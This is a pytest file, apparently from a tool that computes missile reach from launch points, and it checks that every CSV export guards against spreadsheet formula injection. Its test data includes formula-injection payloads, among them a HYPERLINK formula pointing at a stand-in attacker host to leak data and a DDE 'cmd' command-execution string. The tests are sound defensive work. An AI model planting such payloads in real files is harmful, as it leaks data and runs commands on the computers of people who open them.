"""Spreadsheet-safe CSV (docs/INTERFACES.md section 7), everywhere the project writes CSV.

Two ways of finding the writers, so that a new one cannot slip past: every CSV format of the
export registry is written with hostile text and read back; and the sources are searched for
anything that writes CSV or hands a table to Streamlit (whose toolbar would write one), each
of which must be a checked writer here.
"""

from __future__ import annotations

import csv
import io
import re
import tomllib
from pathlib import Path

import pandas as pd
import pytest

from ranges.catalogue.systems import Catalogue, Source, System, load_catalogue
from ranges.export import FORMATS, FORMULA_STARTS, ExportData, ExportFormat, spreadsheet_safe
from ranges.export.cells import spreadsheet_safe_strings
from ranges.places.points import LaunchPoint
from ranges.reach.pairtable import ReachQuery, reach_columns
from ranges.reach.schema import OUTPUT_COLUMNS

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak","Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturn",
    "=1,2",  # needs CSV quoting too
]
TEXT_COLUMNS = ("city", "country", "launch", "system", "part_of")
NUMBER_COLUMNS = ("latitude", "longitude", "population", "distance_km", "bearing_deg")


def _gazetteer():
    from ranges.places.extracts import default_gazetteer

    return default_gazetteer("cities15000")


def _hostile_rows() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "city": HOSTILE,
            "country": list(reversed(HOSTILE)),
            "latitude": [-33.87 + i for i in range(n)],
            "longitude": [-151.21 + i for i in range(n)],
            "population": [1000 + i for i in range(n)],
            "launch": HOSTILE,
            "system": ["atacms"] * n,
            "distance_km": [10.5 + i for i in range(n)],
            "bearing_deg": [-0.0] + [359.5 - i for i in range(1, n)],
            "part_of": ["", *HOSTILE[1:]],
            "city_index": list(range(n)),
        }
    )


def _hostile_catalogue() -> Catalogue:
    systems = [
        System(
            id=f"s{i}",
            name=text.replace("\t", " ").replace("\r", " "),  # a name cannot hold controls
            kind="cruise",
            max_range_km=100 + i,
            sources=(Source(title=HOSTILE[(i + 1) % len(HOSTILE)].strip()),),
        )
        for i, text in enumerate(HOSTILE)
    ]
    return Catalogue(tuple(systems))


def _data_for(fmt: ExportFormat) -> list[ExportData]:
    """Hostile data of the kind the format is made from."""
    if fmt.needs == "reach":
        points = [
            LaunchPoint(50.45, 30.52, HOSTILE[0]),
            LaunchPoint(46.48, 30.72, "@cmd"),
            LaunchPoint(48.0, 37.8, "-Front"),
        ]
        systems = load_catalogue().select(["atacms"])
        engine = reach_columns(points, systems, _gazetteer(), min_population=200_000)
        # The command line's query: its CSV is streamed (ranges.export.reachstream).
        query = ReachQuery(points, systems, _gazetteer(), min_population=200_000)
        return [
            ExportData(rows=_hostile_rows()),
            ExportData(rows=engine, points=points),
            ExportData(rows=query, points=points),
        ]
    if fmt.needs == "catalogue":
        return [ExportData(catalogue=_hostile_catalogue())]
    if fmt.needs == "targets":
        from ranges.targets.measure import measure_targets
        from ranges.targets.model import TargetList

        n = len(HOSTILE)
        targets = TargetList(
            HOSTILE,
            list(reversed(HOSTILE)),
            HOSTILE,
            [-33.87 + i for i in range(n)],
            [-151.21 + i for i in range(n)],
        )
        points = [LaunchPoint(-33.0, -150.0, HOSTILE[0]), LaunchPoint(-30.0, -149.0, "-Front")]
        systems = load_catalogue().select(["atacms", "tomahawk"])
        return [ExportData(targets=measure_targets(targets, systems, points))]
    raise AssertionError(f"no hostile data for a CSV made from {fmt.needs!r}: add it here")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check(text: str) -> list[dict[str, str]]:
    """Every cell of ``text`` is a number, empty, or text a spreadsheet shows as text."""
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for column, cell in row.items():
            if cell and not _is_number(cell):
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    return rows


CSV_FORMATS = [f for f in FORMATS if f.mime == "text/csv" or f.extension == ".csv"]


def test_the_registry_has_csv_formats():
    assert {(f.needs, f.name) for f in CSV_FORMATS} >= {("reach", "csv"), ("catalogue", "csv")}


@pytest.mark.parametrize("fmt", CSV_FORMATS, ids=lambda f: f"{f.needs}-{f.name}")
def test_every_csv_format_writes_formulas_as_text_and_numbers_as_numbers(fmt):
    for data in _data_for(fmt):
        text = fmt.write(data)
        assert b"".join(bytes(part) for part in fmt.write_bytes(data)) == text.encode()
        rows = _check(text)
        if fmt.needs == "reach":
            assert list(rows[0]) == list(OUTPUT_COLUMNS)
            for row in rows:
                for column in NUMBER_COLUMNS:  # negative numbers keep their sign, unquoted
                    assert row[column] == "" or _is_number(row[column]), (column, row[column])
            if isinstance(data.rows, pd.DataFrame):
                assert [r["city"] for r in rows] == ["'" + h for h in HOSTILE]
                assert rows[0]["latitude"] == "-33.87" and rows[0]["bearing_deg"] == "0.0"
            else:  # the engine's columns: the labels of the launch points
                assert {r["launch"] for r in rows} == {"'" + HOSTILE[0], "'@cmd", "'-Front"}
        elif fmt.needs == "targets":
            assert {r["target"] for r in rows} >= {"'" + HOSTILE[0], "'@SUM(A1:A9)"}
            assert {r["launch"] for r in rows} <= {"'" + HOSTILE[0], "'-Front"}
            for row in rows:
                for column in ("latitude", "longitude", "distance_km", "margin_km"):
                    assert _is_number(row[column]), (column, row[column])
        else:
            assert [r["name"] for r in rows][:2] == [
                "'" + HOSTILE[0],
                "'" + HOSTILE[1],
            ]
            assert all(_is_number(r["max_range_km"]) for r in rows)


def test_the_formula_label_round_trips():
    """A label ``=HYPERLINK(...)`` from a link: written with its guard, read back it is the
    label with one leading ``'`` (which a spreadsheet shows as text and does not display)."""
    label = HOSTILE[0]
    point = LaunchPoint.from_query(f"50.45,30.52,{label}")
    assert point.label == label and point.to_query().endswith(label)  # the link keeps it
    engine = reach_columns(
        [point], load_catalogue().select(["atacms"]), _gazetteer(), min_population=500_000
    )
    fmt = next(f for f in CSV_FORMATS if f.needs == "reach")
    rows = list(csv.DictReader(io.StringIO(fmt.write(ExportData(rows=engine)))))
    assert rows and {r["launch"] for r in rows} == {"'" + label}
    assert {r["launch"].removeprefix("'") for r in rows} == {label}


def test_the_vectorised_rule_is_the_rule():
    import pyarrow as pa

    values = [*HOSTILE, "Kyiv", "", "'=already", " =space first", "x=1", "Київ"]
    out = spreadsheet_safe_strings(pa.array(values, pa.large_string())).to_pylist()
    assert out == [spreadsheet_safe(v) for v in values]
    plain = pa.array(["Kyiv", "Odesa"], pa.large_string())
    assert spreadsheet_safe_strings(plain) is plain  # nothing to do: no copy


# --- every place that writes CSV, found in the sources ----------------------------------------

WRITES_CSV = re.compile(
    r"\bcsv\.(writer|DictWriter)\b|\.to_csv\(|pyarrow\.csv|\bpa_csv\b|\"text/csv\""
    r"|\.(dataframe|data_editor)\(|\bdef \w*csv\w*\("
)
# Each file that writes CSV, and how it is made safe (checked above or below).
CHECKED = {
    "ranges/export/__init__.py": "the registry: its CSV formats are written above",
    "ranges/export/rows.py": "the reach CSV: a registry format, written above",
    "ranges/export/reachstream.py": "the reach CSV streamed: the registry's, of a ReachQuery",
    "ranges/export/systems.py": "the systems CSV: a registry format, written above",
    "ranges/export/targets.py": "the targets CSV: a registry format, written above",
    "ranges/scenario/pointfiles.py": "reads a user's CSV of launch points; writes no file "
    "(csv.writer renames one header cell for the target reader)",
    "ranges/targets/files.py": "reads a user's CSV list (read_csv); writes none",
    "ranges/ui/tabs/reach.py": "st.dataframe: the toolbar's CSV export is off (config)",
    "ranges/ui/tabs/target.py": "st.dataframe: the toolbar's CSV export is off (config)",
    "ranges/ui/targets.py": "st.dataframe: the toolbar's CSV export is off (config)",
    "ranges/ui/totals.py": "st.dataframe: the toolbar's CSV export is off (config)",
}


def _sources() -> list[Path]:
    return [ROOT / "app.py", *sorted((ROOT / "ranges").rglob("*.py"))]


def test_every_csv_writer_in_the_sources_is_a_checked_one():
    found = {
        str(path.relative_to(ROOT))
        for path in _sources()
        if WRITES_CSV.search(path.read_text(encoding="utf-8"))
    }
    unchecked = found - set(CHECKED)
    assert not unchecked, f"CSV written here without a spreadsheet-safety test: {unchecked}"
    assert set(CHECKED) <= found, f"stale entries: {set(CHECKED) - found}"


def test_streamlit_tables_offer_no_csv_of_their_own():
    """Streamlit's table toolbar writes CSV in the browser with text as it is: it is turned off
    for every table, and the Export tab's spreadsheet-safe CSV is the download."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
